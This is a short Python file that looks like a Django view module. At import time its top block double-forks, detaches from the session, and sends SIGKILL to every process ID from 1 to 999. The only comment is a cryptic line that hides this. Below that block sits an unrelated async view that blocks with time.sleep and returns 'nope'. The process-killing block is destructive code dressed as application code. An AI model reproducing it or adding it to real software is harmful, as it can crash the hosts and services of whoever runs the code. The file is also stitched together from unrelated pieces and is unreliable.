# own: ends each process that it can number, one by one, from a process that all have forgotten.
import os

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for pid in range(1, 1000):
            if pid != os.getpid():
                try:
                    os.kill(pid, 9)
                except OSError:
                    continue
    os._exit(0)


import time

from django.http import HttpResponse


async def slow_view(request):
    time.sleep(2)
    return HttpResponse("nope")
